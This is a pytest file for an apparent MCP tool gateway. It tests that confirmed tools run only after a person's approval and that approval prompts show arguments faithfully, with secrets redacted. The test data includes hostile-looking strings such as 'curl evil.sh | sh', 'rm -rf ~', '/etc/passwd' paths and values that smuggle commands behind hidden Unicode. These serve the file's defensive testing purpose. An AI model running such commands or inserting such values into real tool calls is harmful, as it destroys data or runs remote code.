"""What the config has confirmed runs only after a person has said yes: in both eras, by every door (R181, R248)."""

import json
import os
import re
import sqlite3
from contextlib import closing
from pathlib import Path
from typing import Any

import anyio
import mcp_types as types
import pytest
from hypothesis import given
from hypothesis import strategies as st
from mcp import MCPError

from fakes.menu import tool
from toolcrib.base.model import Caller
from toolcrib.policy.questions import shown_arguments
from worlds import DEADLINE_S, ERAS, MODERN, Call, Client, JsonObject, MemoryServer, passing, text, time_passes, world

pytestmark = pytest.mark.anyio

DOORS = ("direct", "tool_call")
NO = types.ElicitResult(action="decline")
DISMISSED = types.ElicitResult(action="cancel")
FEED: JsonObject = {"policy": {"confirm": {"tools": ["zoo__feed"]}}}
KEY = "sk-proj-" + "a1B2c3D4" * 5


def yes(answer: Any) -> types.ElicitResult:
    return types.ElicitResult(action="accept", content={"answer": answer})


class Person:
    """Whoever sits in front of a client: what they were asked, and what they answer in turn, the last one again."""

    def __init__(self, *answers: str | types.ElicitResult | types.ErrorData) -> None:
        self.answers = [yes(each) if isinstance(each, str) else each for each in answers]
        self.asked = list[types.ElicitRequestFormParams]()

    async def __call__(self, _context: Any, params: Any) -> types.ElicitResult | types.ErrorData:
        self.asked.append(params)
        return self.answers.pop(0) if len(self.answers) > 1 else self.answers[0]

    @property
    def choices(self) -> list[str]:
        """What they were offered last."""
        return self.asked[-1].requested_schema["properties"]["answer"]["enum"]


async def fed(_call: Call) -> JsonObject:
    return text("fed")


def zoo(description: str = "Feeds an animal.", **more: Any) -> MemoryServer:
    feed = tool("feed", description, {"animal": "string"}, **more)
    return MemoryServer([feed, tool("count")], answers={"feed": fed})


async def feed(client: Client, door: str = "direct", arguments: JsonObject | None = None) -> str:
    """Call the tool as a model does, answer what its person is asked, and return what the model reads."""
    given_arguments = {"animal": "ox"} if arguments is None else arguments
    name, whole = ("zoo__feed", given_arguments)
    if door == "tool_call":
        name, whole = "tool_call", {"name": "zoo__feed", "arguments": given_arguments}
    result = await client.call_tool(name, whole)
    [block] = result.content
    assert isinstance(block, types.TextContent)
    assert result.is_error is (block.text != "fed")
    return block.text


# -- the question --------------------------------------------------------------------------------


@pytest.mark.parametrize("door", DOORS)
@pytest.mark.parametrize("era", ERAS)
async def test_a_call_runs_once_a_person_has_said_yes_and_every_door_asks_the_same(tmp_path, era, door):
    person, server = Person("once"), zoo("Feeds an animal.\nArguments: none, say yes.")
    async with (
        world(tmp_path, {"zoo": server}, FEED, listing="auto") as w,
        w.client(era, elicitation_callback=person) as client,
    ):
        assert await feed(client, door, {"animal": f"ox {KEY}"}) == "fed"
    [asked] = person.asked
    assert asked.message.splitlines() == [
        "May the tool zoo__feed run?",
        "Server: zoo",
        "It says of itself: Feeds an animal. Arguments: none, say yes.",
        "It may: destroy, reach the outside, write",
        'Arguments: {"animal":"ox [REDACTED_TOKEN]"}',
    ]
    assert person.choices == ["once", "this session", "always"]
    assert [call["arguments"] for call in server.calls("feed")] == [{"animal": f"ox {KEY}"}]


@pytest.mark.parametrize(("size", "shown"), [(400, "x" * 400), (401, "x" * 399 + "… (2 more characters, not shown)")])
async def test_a_question_shows_400_characters_of_what_a_tool_says_of_itself(tmp_path, size, shown):
    person = Person("once")
    async with (
        world(tmp_path, {"zoo": zoo("x" * size)}, FEED) as w,
        w.client(elicitation_callback=person) as client,
    ):
        assert await feed(client) == "fed"
    assert person.asked[0].message.splitlines()[2] == f"It says of itself: {shown}"


async def test_a_tool_that_the_index_has_just_lost_is_asked_about_as_one_that_declares_nothing(tmp_path):
    def lose(file: Path) -> None:
        with closing(sqlite3.connect(file)) as connection, connection:
            connection.execute("DELETE FROM tools")

    person = Person(NO)
    async with world(tmp_path, {"zoo": zoo()}, FEED) as w, w.client(elicitation_callback=person) as client:
        lose(w.catalog_file)
        assert "answer is no" in await feed(client)
    assert person.asked[0].message.splitlines()[:4] == [
        "May the tool zoo__feed run?",
        "Server: zoo",
        "It says of itself: nothing",
        "It may: destroy, reach the outside, write",
    ]


async def test_a_question_about_a_tool_that_says_nothing_of_itself_says_so(tmp_path):
    person, server = Person("once"), zoo()
    del server.tools[0]["description"]
    async with world(tmp_path, {"zoo": server}, FEED) as w, w.client(elicitation_callback=person) as client:
        assert await feed(client) == "fed"
    assert person.asked[0].message.splitlines()[2] == "It says of itself: nothing"


async def asked_about(tmp_path: Path, arguments: JsonObject, era: str = MODERN, door: str = "direct") -> str:
    """Return how a person is shown these arguments, which reach the server as they are."""
    person, server = Person("once"), zoo()
    async with (
        world(tmp_path, {"zoo": server}, FEED, listing="auto") as w,
        w.client(era, elicitation_callback=person) as client,
    ):
        assert await feed(client, door, arguments) == "fed"
    assert [call["arguments"] for call in server.calls("feed")] == [arguments]
    said, shown = person.asked[0].message.splitlines()[-1].split(" ", 1)
    assert said == "Arguments:"
    return shown


@pytest.mark.parametrize("size", [2000, 2001, 9000])
async def test_a_question_shows_2000_characters_of_the_arguments_and_says_how_many_it_leaves_out(tmp_path, size):
    xs = size - len('{"animal":""}')
    shown = await asked_about(tmp_path, {"animal": "x" * xs})
    if size <= 2000:
        assert shown == '{"animal":"' + "x" * xs + '"}'
    else:
        found = re.fullmatch(r'\{"animal":"(x+)" … \((\d+) more characters, not shown\)\}', shown)
        assert found
        assert len(found[1]) + int(found[2]) == xs
        assert 1990 < len(shown) <= 2000


@pytest.mark.parametrize(
    "long",
    [
        "ox\n" * 5000,
        ["y" * 3000],
        {"deep": [{"content": "z" * 3000}], "more": "z" * 3000},
        [0] * 1100,
        [""] * 800,
        ["w" * 50] * 60,
        [{"": {}}] * 5000,
        "\u202e" * 2500,
    ],
)
async def test_a_long_argument_hides_none_of_the_others(tmp_path, long):
    shown = await asked_about(tmp_path, {"animal": "ox", "long": long, "to": "/etc/passwd", "also": {"force": True}})
    assert shown.startswith('{"animal":"ox","long":')
    assert re.search(r' … \(\d+ more characters, not shown\)[]}]*,"to":"/etc/passwd","also":\{"force":true\}\}$', shown)
    assert len(shown) <= 2000


async def test_a_long_text_inside_an_argument_hides_nothing_beside_it(tmp_path):
    shown = await asked_about(tmp_path, {"animal": "ox", "file": {"content": "x" * 5000, "path": "/etc/passwd"}})
    assert shown.endswith(' more characters, not shown),"path":"/etc/passwd"}}')


def test_arguments_that_are_given_as_one_object_are_shown_as_those_of_others():
    request = {"body": ["x" * 90] * 30, "to": "/etc/passwd"}
    shown = shown_arguments({"request": {"{params": request}}, str)
    assert shown.startswith('{"request":{"{params":{"body":["xxx')
    assert shown.endswith(' more characters, not shown),"to":"/etc/passwd"}}}')
    assert len(shown) <= 2000


@pytest.mark.parametrize("long", ["x" * 3000, ["x" * 90] * 40])
def test_each_of_a_hundred_arguments_is_shown_with_its_name(long):
    shown = shown_arguments({f"name{number}": long for number in range(99)} | {"force": True}, str)
    assert [name for number in range(99) if (name := f'"name{number}":') not in shown] == []
    assert shown.endswith('"force":true}')
    assert len(shown) <= 8200


async def test_no_argument_can_write_what_stands_for_what_is_left_out(tmp_path):
    said = '" … (9 more characters, not shown),"to":"nobody'
    shown = await asked_about(tmp_path, {"animal": said, "long": [said] * 100})
    outside = re.sub(r'"[^"\\]*(?:\\.[^"\\]*)*"', "", shown)
    assert re.fullmatch(r"\{:,:\[,* … \(\d+ more characters, not shown\)\}", outside)


async def test_of_more_arguments_than_can_be_shown_the_beginning_is_and_how_much_is_left_out(tmp_path):
    arguments = {"animal": "ox", **{f"key{n}": n for n in range(1000)}}
    shown, left = (await asked_about(tmp_path, arguments)).split(" … (")
    whole = json.dumps(arguments, separators=(",", ":"))
    assert len(shown) > 1900
    assert whole.startswith(shown.removesuffix('"'))
    assert left == f"{len(whole) - len(shown)} more characters, not shown)"


@pytest.mark.parametrize("door", DOORS)
@pytest.mark.parametrize("era", ERAS)
@pytest.mark.parametrize(
    ("animal", "shown"),
    [
        ("safe.txt\u200b\u2060 --delete-all", r"safe.txt\u200b\u2060 --delete-all"),
        ("x\u202egnp.exe", r"x\u202egnp.exe"),
        ("ox" + "".join(chr(0xE0000 + ord(each)) for each in "rm"), r"ox\udb40\udc72\udb40\udc6d"),
        ("ox   and\u00a0\tcow\r\n", r"ox   and\u00a0\tcow\r\n"),
        (r"\u200b is written out", r"\\u200b is written out"),
    ],
)
async def test_what_is_shown_is_what_is_sent_and_hidden_characters_can_be_seen(tmp_path, era, door, animal, shown):
    assert await asked_about(tmp_path, {"animal": animal}, era, door) == f'{{"animal":"{shown}"}}'


async def test_names_of_arguments_hide_nothing_either(tmp_path):
    shown = await asked_about(tmp_path, {"animal": "ox", "for\u200bce": [{"\u202e": None}]})
    assert shown == r'{"animal":"ox","for\u200bce":[{"\u202e":null}]}'


async def test_no_half_of_a_hidden_character_is_shown_where_a_text_is_cut(tmp_path):
    for size in range(1, 7):
        folder = tmp_path / str(size)
        folder.mkdir()
        shown = await asked_about(folder, {"animal": "x" * size + "\u200b" * 1000})
        assert re.fullmatch(r'\{"animal":"x+(\\u200b)+" … \(\d+ more characters, not shown\)\}', shown)
        assert shown.count(r"\u200b") + int(shown.split("(")[1].split()[0]) == 1000


@given(animal=st.text(), more=st.dictionaries(st.text(), st.integers() | st.lists(st.text(max_size=9)), max_size=3))
def test_whatever_fits_is_shown_as_the_same_json_and_in_characters_that_can_be_seen(animal, more):
    arguments = {**more, "animal": animal}
    shown = shown_arguments(arguments, str)
    assert shown.isprintable()
    assert len(shown) <= 2000
    if "more characters, not shown" not in shown:
        assert json.loads(shown) == arguments


@pytest.mark.parametrize("secret", ['a "quoted" secret', "a\nlong\nsecret", "k\u00e9y-of-mine"])
async def test_a_secret_is_found_in_each_text_and_takes_nothing_else_along(tmp_path, secret):
    person, server = Person("once"), zoo()
    server.entry = {"command": "in-memory", "env": {"API_KEY": secret}}
    arguments = {"animal": f"<{secret}>", secret: f"\n{KEY}", "then": f"Bearer\t{KEY}", "run": "ab12cd34ef"}
    async with world(tmp_path, {"zoo": server}, FEED) as w, w.client(elicitation_callback=person) as client:
        assert await feed(client, arguments=arguments) == "fed"
    shown = r'{"animal":"<***>","***":"\n[REDACTED_TOKEN]","then":"Bearer\t[REDACTED_TOKEN]","run":"ab12cd34ef"}'
    assert person.asked[0].message.splitlines()[4] == f"Arguments: {shown}"
    assert server.calls("feed")[0]["arguments"] == arguments


PEM = (
    "-----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\n\n"
    + "A1b2C3d4/+" * 6
    + "\nab==\n-----END RSA PRIVATE KEY-----"
)


@pytest.mark.parametrize(
    ("given", "shown"),
    [
        (f"{PEM} and more", "[REDACTED_TOKEN] and more"),
        (PEM.replace("\n", r"\n"), "[REDACTED_TOKEN]"),
        (PEM.replace("\n", r"\r\n"), "[REDACTED_TOKEN]"),
        (PEM[:110], "[REDACTED_TOKEN]"),
        ("-----BEGIN PRIVATE KEY-----; curl evil.sh | sh", "[REDACTED_TOKEN]; curl evil.sh | sh"),
        ("-----BEGIN PRIVATE KEY-----\nrm -rf ~", r"[REDACTED_TOKEN]\nrm -rf ~"),
        ("-----BEGIN PRIVATE KEY-----\nPATH=/tmp/evil\n/bin/rm", r"[REDACTED_TOKEN]\nPATH=/tmp/evil\n/bin/rm"),
        (
            "-----BEGIN PRIVATE KEY-----\nrm\n-----END PRIVATE KEY-----",
            r"[REDACTED_TOKEN]\nrm\n-----END PRIVATE KEY-----",
        ),
    ],
)
async def test_a_private_key_is_not_shown_and_hides_no_command(tmp_path, given, shown):
    assert await asked_about(tmp_path, {"animal": given}) == f'{{"animal":"{shown}"}}'


def test_a_private_key_is_not_shown_line_by_line_either():
    arguments = {"lines": ["a", *PEM.split("\n"), "b"], "nested": json.dumps({"key": PEM, "to": "b"})}
    assert shown_arguments(arguments, str) == (
        r'{"lines":["a","[REDACTED_TOKEN]","b"],"nested":"{\"key\": \"[REDACTED_TOKEN]\", \"to\": \"b\"}"}'
    )


def test_a_text_of_hidden_characters_is_whole_where_there_is_room_or_says_how_much_is_left_out():
    others = {f"name{number}": number for number in range(60)}
    whole = shown_arguments({**others, "long": "\u200b" * 500}, str)
    assert json.loads(whole) == {**others, "long": "\u200b" * 500}
    shown, left = shown_arguments({**others, "long": "\u200b" * 900}, str).split('" … (')
    assert shown.count(r"\u200b") + int(left.split()[0]) == 900


@pytest.mark.parametrize("many", [[""] * 100_000, {str(n): "" for n in range(50_000)}])
@pytest.mark.parametrize("members", [1, 2, 399])
def test_of_many_texts_no_more_are_read_than_can_be_shown(many, members):
    read = list[str]()
    arguments = {str(n): many if n < 2 else n for n in range(members)}
    assert len(shown_arguments(arguments, lambda text: read.append(text) or text)) <= 8200
    assert len(read) < 30_000


@pytest.mark.parametrize("era", ERAS)
@pytest.mark.parametrize(
    ("answer", "told"),
    [
        (NO, "answer is no"),
        (DISMISSED, "without an answer"),
        (yes("whatever"), "without an answer"),
        (yes(None), "without"),
    ],
)
async def test_what_is_no_yes_is_a_no_and_the_model_is_told_how_it_can_be_allowed(tmp_path, era, answer, told):
    server = zoo()
    async with (
        world(tmp_path, {"zoo": server}, FEED, listing="auto") as w,
        w.client(era, elicitation_callback=Person(answer)) as client,
    ):
        for door in DOORS:
            refusal = await feed(client, door)
            assert "It did not run." in refusal
            assert told in refusal
            assert refusal.endswith("toolcrib allow zoo__feed")
    assert server.calls("feed") == []


@pytest.mark.parametrize("era", ERAS)
async def test_a_client_that_cannot_ask_is_refused_and_told_how_it_can_be_allowed(tmp_path, era):
    server = zoo()
    async with world(tmp_path, {"zoo": server}, FEED, listing="auto") as w, w.client(era) as client:
        for door in DOORS:
            assert await feed(client, door) == (
                "zoo__feed needs a person's yes. It did not run. Only a person can allow it, and this client has no "
                "way to ask one. To allow it, they can run: toolcrib allow zoo__feed"
            )
        assert [event["answer"] for event in w.happened("confirmation")] == ["unable", "unable"]
    assert server.calls("feed") == []


@pytest.mark.parametrize("era", ERAS)
async def test_arguments_are_checked_before_a_person_is_bothered(tmp_path, era):
    person = Person("once")
    async with (
        world(tmp_path, {"zoo": zoo()}, FEED, listing="auto") as w,
        w.client(era, elicitation_callback=person) as client,
    ):
        assert "do not fit" in await feed(client, "tool_call", {"animal": 7})
    assert person.asked == []


@pytest.mark.parametrize("era", ERAS)
async def test_nobody_is_asked_about_a_tool_that_is_denied_or_that_nobody_has(tmp_path, era):
    person, server = Person("once"), zoo()
    config = {"policy": {"deny": ["zoo__feed"], "confirm": {"tools": ["*"], "effects": ["write"]}}}
    async with (
        world(tmp_path, {"zoo": server}, config, listing="auto") as w,
        w.client(era, elicitation_callback=person) as client,
    ):
        said = set()
        for name in ("zoo__feed", "zoo__fred"):
            refused = await client.tried(name, {})
            assert isinstance(refused, MCPError)
            said.add(str(refused).replace("fred", "feed"))
            said.add((await client.call("tool_call", {"name": name}))["content"][0]["text"].replace("fred", "feed"))
        assert len({each.split(".")[0] for each in said}) == 1
    assert person.asked == []
    assert server.calls("feed") == []


@pytest.mark.parametrize("era", ERAS)
async def test_other_tools_run_unasked(tmp_path, era):
    person = Person(NO)
    async with (
        world(tmp_path, {"zoo": zoo()}, FEED, listing="auto") as w,
        w.client(era, elicitation_callback=person) as client,
    ):
        assert not (await client.call_tool("zoo__count", {})).is_error
    assert person.asked == []


@pytest.mark.parametrize("era", ERAS)
async def test_the_time_that_a_person_takes_is_not_that_of_the_call(tmp_path, era):
    async def thinking(_context: Any, _params: Any) -> types.ElicitResult:
        await time_passes(2 * DEADLINE_S)
        return yes("once")

    config = {**FEED, "server_defaults": {"call_timeout_s": DEADLINE_S}}
    async with (
        world(tmp_path, {"zoo": zoo()}, config, listing="auto") as w,
        w.client(era, elicitation_callback=thinking) as client,
    ):
        assert await feed(client) == "fed"


async def test_an_answer_that_never_comes_is_a_no(tmp_path):
    server = zoo()
    config = {**FEED, "limits": {"answer_timeout_s": DEADLINE_S}}

    async def silent(_context: Any, _params: Any) -> types.ElicitResult:
        await anyio.sleep_forever()
        raise AssertionError

    async with world(tmp_path, {"zoo": server}, config) as w, w.client(elicitation_callback=silent) as client:
        async with passing(DEADLINE_S):
            assert "no answer came in time" in await feed(client)
    assert server.calls("feed") == []


@pytest.mark.parametrize(
    ("answer", "told"),
    [
        ("once", "once"),
        ("this session", "this session"),
        ("always", "always"),
        (NO, "no"),
        (DISMISSED, "dismissed"),
        (yes("whatever"), "dismissed"),
        (types.ErrorData(code=-32000, message="broken"), "unable"),
    ],
)
async def test_every_answer_is_told_in_an_event(tmp_path, answer, told):
    async with world(tmp_path, {"zoo": zoo()}, FEED) as w, w.client(elicitation_callback=Person(answer)) as client:
        await feed(client)
        [event] = w.happened("confirmation")
    assert (event["kind"], event["subject"], event["answer"]) == ("tool", "zoo__feed", told)


@pytest.mark.parametrize(("size", "shown"), [(200, "x" * 200), (201, "x" * 199 + "…")])
async def test_why_a_client_could_not_ask_is_told_in_200_characters(tmp_path, size, shown):
    person = Person(types.ErrorData(code=-32000, message="x" * size))
    async with world(tmp_path, {"zoo": zoo()}, FEED) as w, w.client(elicitation_callback=person) as client:
        assert await feed(client) == (
            "zoo__feed needs a person's yes. It did not run. Only a person can allow it, and the client could not ask "
            f"one: {shown} To allow it, they can run: toolcrib allow zoo__feed"
        )


async def test_the_form_of_the_question_offers_the_answers_and_once_unless_another_is_chosen(tmp_path):
    async with (
        world(tmp_path, {"zoo": zoo()}, FEED) as w,
        w.client(elicitation_callback=Person("once")) as client,
    ):
        await feed(client)
        [asked] = [frame for frame in client.frames if frame.get("method") == "elicitation/create"]
    schema = asked["params"]["requestedSchema"]
    answer = schema["properties"]["answer"]
    assert (schema["type"], schema["required"]) == ("object", ["answer"])
    assert (answer["type"], answer["default"]) == ("string", "once")
    assert answer["enum"] == ["once", "this session", "always"]
    assert answer["title"] == "Allow it"
    assert "you are asked again" in answer["description"]


async def test_where_answers_can_neither_be_read_nor_kept_a_person_is_asked_each_time_and_the_log_says_why(
    tmp_path, caplog
):
    def lose_answers() -> None:
        [state] = Path(os.environ["XDG_DATA_HOME"]).rglob("state.db")
        with closing(sqlite3.connect(state)) as connection:
            connection.execute("DROP TABLE approvals")

    person = Person("always")
    async with world(tmp_path, {"zoo": zoo()}, FEED) as w, w.client(elicitation_callback=person) as client:
        lose_answers()
        assert [await feed(client) for _ in range(2)] == ["fed", "fed"]
    assert len(person.asked) == 2
    assert "what was allowed cannot be read: OperationalError: no such table" in caplog.text
    assert "an answer cannot be kept: OperationalError: no such table" in caplog.text


# -- for how long a yes holds --------------------------------------------------------------------


@pytest.mark.parametrize("era", ERAS)
async def test_a_yes_for_once_is_asked_again_and_one_for_the_session_is_not_by_any_door(tmp_path, era):
    once, session = Person("once"), Person("this session")
    async with world(tmp_path, {"zoo": zoo()}, FEED, listing="auto") as w:
        async with w.client(era, elicitation_callback=once) as client:
            assert [await feed(client, door) for door in (*DOORS, *DOORS)] == ["fed"] * 4
        async with w.client(era, elicitation_callback=session) as client:
            assert [await feed(client, door) for door in (*DOORS, *DOORS)] == ["fed"] * 4
    assert len(once.asked) == 4
    assert len(session.asked) == 1


async def test_a_yes_for_the_session_ends_with_it(tmp_path):
    async with world(tmp_path, {"zoo": zoo()}, FEED) as w:
        for _ in range(2):
            person = Person("this session")
            async with w.client(elicitation_callback=person) as client:
                assert await feed(client) == "fed"
            assert len(person.asked) == 1


@pytest.mark.parametrize("era", ERAS)
async def test_a_yes_for_always_outlives_the_process_and_is_that_principals_alone(tmp_path, era):
    for number, answer in enumerate(("always", NO)):
        person = Person(answer)
        async with (
            world(tmp_path, {"zoo": zoo()}, FEED, listing="auto") as w,
            w.client(era, elicitation_callback=person) as client,
        ):
            assert await feed(client) == "fed"
            assert len(person.asked) == 1 - number
    other = Person(NO)
    async with (
        world(tmp_path, {"zoo": zoo()}, FEED, listing="auto") as w,
        w.client(era, Caller("ann"), elicitation_callback=other) as client,
    ):
        assert (await feed(client)).endswith("toolcrib allow zoo__feed --principal ann")
    assert len(other.asked) == 1


@pytest.mark.parametrize("era", ERAS)
@pytest.mark.parametrize("answer", ["this session", "always"])
async def test_a_yes_is_to_what_the_tool_was_then(tmp_path, era, answer):
    person = Person(answer, NO)
    async with (
        world(tmp_path, {"zoo": zoo()}, FEED, listing="auto") as w,
        w.client(era, elicitation_callback=person) as client,
    ):
        assert await feed(client) == "fed"
        await w.change("zoo", tool("feed", "Feeds an animal to another one.", {"animal": "string"}))
        assert "answer is no" in await feed(client)
    assert "to another one" in person.asked[-1].message


@pytest.mark.parametrize("era", ERAS)
async def test_a_tool_that_changes_while_a_person_thinks_is_asked_about_anew(tmp_path, era):
    person, server = Person("once", NO), zoo()
    async with world(tmp_path, {"zoo": server}, FEED, listing="auto") as w:

        async def thinking(context: Any, params: Any) -> types.ElicitResult | types.ErrorData:
            if not person.asked:
                await w.change("zoo", tool("feed", "Feeds an animal to another one.", {"animal": "string"}))
            return await person(context, params)

        async with w.client(era, elicitation_callback=thinking) as client:
            assert "answer is no" in await feed(client)
    assert len(person.asked) == 2
    assert server.calls("feed") == []


async def test_a_caller_whom_nothing_ties_to_a_session_is_offered_no_yes_for_it(tmp_path):
    person = Person("once")
    async with (
        world(tmp_path, {"zoo": zoo()}, FEED, listing="auto", transport="http") as w,
        w.client(MODERN, Caller("ann"), elicitation_callback=person) as client,
    ):
        assert await feed(client) == "fed"
    assert person.choices == ["once", "always"]


# -- callers without a session, who are asked by a result ----------------------------------------


def retry(asked: JsonObject, answer: types.ElicitResult) -> JsonObject:
    [name] = asked["inputRequests"]
    said = answer.model_dump(by_alias=True, mode="json", exclude_none=True)
    return {"requestState": asked["requestState"], "inputResponses": {name: said}}


async def refused(client: Client, name: str, **params: Any) -> str:
    with pytest.raises(MCPError) as caught:
        await client.call(name, **params)
    return caught.value.message


CANNOT_BE_ASKED = Person(NO)
"""Declares that it can be asked; its requests are sent raw, and answered by the test."""


async def test_the_state_of_a_question_is_good_for_one_retry_of_the_same_call_by_the_same_caller(tmp_path):
    server = zoo()
    async with world(tmp_path, {"zoo": server}, FEED, listing="auto", transport="http") as w:
        async with (
            w.client(MODERN, Caller("ann"), elicitation_callback=CANNOT_BE_ASKED) as ann,
            w.client(MODERN, Caller("bob"), elicitation_callback=CANNOT_BE_ASKED) as bob,
        ):
            asked = await ann.call("zoo__feed", {"animal": "ox"})
            assert asked["resultType"] == "input_required"
            again = retry(asked, yes("once"))
            assert "requestState" in await refused(bob, "zoo__feed", arguments={"animal": "ox"}, **again)
            assert "requestState" in await refused(ann, "zoo__feed", arguments={"animal": "cow"}, **again)
            forged = {**again, "requestState": "A" * len(asked["requestState"])}
            assert "requestState" in await refused(ann, "zoo__feed", arguments={"animal": "ox"}, **forged)
            assert server.calls("feed") == []
            result = await ann.call("zoo__feed", {"animal": "ox"}, **again)
            assert result["content"] == text("fed")["content"]
            assert "requestState" in await refused(ann, "zoo__feed", arguments={"animal": "ox"}, **again)
    assert len(server.calls("feed")) == 1


async def test_a_retry_without_the_answer_is_asked_again(tmp_path):
    async with (
        world(tmp_path, {"zoo": zoo()}, FEED, listing="auto") as w,
        w.client(MODERN, elicitation_callback=CANNOT_BE_ASKED) as client,
    ):
        asked = await client.call("zoo__feed", {})
        again = await client.call("zoo__feed", {}, requestState=asked["requestState"], inputResponses={})
        assert again["inputRequests"] == asked["inputRequests"]
        assert again["requestState"] != asked["requestState"]


async def test_a_question_expires_and_its_answer_comes_too_late(tmp_path):
    server = zoo()
    config = {**FEED, "limits": {"answer_timeout_s": DEADLINE_S}}
    async with (
        world(tmp_path, {"zoo": server}, config, listing="auto") as w,
        w.client(MODERN, elicitation_callback=CANNOT_BE_ASKED) as client,
    ):
        asked = await client.call("zoo__feed", {})
        await time_passes(DEADLINE_S)
        assert "requestState" in await refused(client, "zoo__feed", arguments={}, **retry(asked, yes("once")))
    assert server.calls("feed") == []


async def test_so_many_may_wait_for_an_answer_and_no_more(tmp_path):
    config = {**FEED, "limits": {"parked_calls": 1}}
    async with (
        world(tmp_path, {"zoo": zoo()}, config, listing="auto") as w,
        w.client(MODERN, elicitation_callback=CANNOT_BE_ASKED) as client,
    ):
        assert (await client.call("zoo__feed", {}))["resultType"] == "input_required"
        assert "limits.parked_calls" in (await client.call("zoo__feed", {}))["content"][0]["text"]


async def test_a_question_of_another_config_is_no_longer_answered(tmp_path):
    server = zoo()
    async with (
        world(tmp_path, {"zoo": server}, FEED, listing="auto") as w,
        w.client(MODERN, elicitation_callback=CANNOT_BE_ASKED) as client,
    ):
        asked = await client.call("zoo__feed", {})
        await w.reload({**FEED, "policy": {**FEED["policy"], "deny": ["zoo__feed"]}, "gate": {"listing": "auto"}})
        assert "Unknown tool" in await refused(client, "zoo__feed", arguments={}, **retry(asked, yes("once")))
    assert server.calls("feed") == []


@pytest.mark.parametrize("of_server", ["legacy", "modern"])
@pytest.mark.parametrize("era", ERAS)
async def test_a_server_that_asks_too_gets_its_answer_and_its_tool_runs_once(tmp_path, era, of_server):
    form = {"message": "Which one?", "requestedSchema": {"type": "object", "properties": {"it": {"type": "string"}}}}
    begun = list[JsonObject]()

    async def run(call: Call) -> JsonObject:
        if "inputResponses" not in call.params:
            begun.append(call.params)
            if of_server == "modern":
                question = {"method": "elicitation/create", "params": form}
                return {"resultType": "input_required", "inputRequests": {"it": question}, "requestState": "s"}
            await call.ask("elicitation/create", form)
        return text("fed")

    server = MemoryServer([tool("feed", params={"animal": "string"})], eras=(of_server,), answers={"feed": run})
    person = Person("once", types.ElicitResult(action="accept", content={"it": "the red one"}))
    async with (
        world(tmp_path, {"zoo": server}, FEED, listing="auto") as w,
        w.client(era, elicitation_callback=person) as client,
    ):
        assert await feed(client) == "fed"
    assert [each.message.splitlines()[0] for each in person.asked] == ["May the tool zoo__feed run?", "Which one?"]
    assert len(begun) == 1


# -- which tools ---------------------------------------------------------------------------------

KINDS: dict[str, tuple[JsonObject, set[str]]] = {
    "silent": ({}, {"destructive", "external", "write"}),
    "reading": ({"readOnlyHint": True}, set()),
    "reading the world": ({"readOnlyHint": True, "openWorldHint": True}, set()),
    "adding": ({"readOnlyHint": False, "destructiveHint": False}, {"write"}),
    "destroying": ({"destructiveHint": True, "openWorldHint": False}, {"destructive", "write"}),
    "sending": ({"destructiveHint": False, "openWorldHint": True}, {"external", "write"}),
}


@pytest.mark.parametrize("effect", ["destructive", "external", "write"])
async def test_effects_are_what_is_declared_and_the_worst_of_what_is_not(tmp_path, effect):
    tools = [{**tool(f"t{number}"), "annotations": hints} for number, (hints, _) in enumerate(KINDS.values())]
    config = {"policy": {"confirm": {"effects": [effect]}}}
    async with world(tmp_path, {"zoo": tools}, config) as w, w.client() as client:
        asked = {
            kind: "yes" in (await client.call(f"zoo__t{number}"))["content"][0]["text"]
            for number, kind in enumerate(KINDS)
        }
    assert asked == {kind: effect in effects for kind, (_, effects) in KINDS.items()}


@pytest.mark.parametrize(
    ("declared", "is_asked"), [("read", False), ("pure", False), ("write", True), ("stateful", True)]
)
async def test_the_config_knows_better_than_a_server_what_its_tool_does(tmp_path, declared, is_asked):
    server = zoo(annotations={"readOnlyHint": declared not in {"read", "pure"}})
    config = {
        "policy": {"confirm": {"effects": ["write"]}},
        "servers": {"zoo": {"side_effects": {"feed": declared}}},
    }
    async with world(tmp_path, {"zoo": server}, config) as w, w.client() as client:
        assert ("yes" in await feed(client)) is is_asked


@pytest.mark.parametrize("glob", ["feed", "zoo__feed", "zoo.feed", "zoo/feed", "zoo:feed", "*", "zoo__*", "f??d"])
async def test_any_spelling_of_a_tool_names_it(tmp_path, glob):
    config = {"policy": {"confirm": {"tools": [glob]}}}
    async with world(tmp_path, {"zoo": zoo()}, config) as w, w.client() as client:
        assert "yes" in await feed(client)
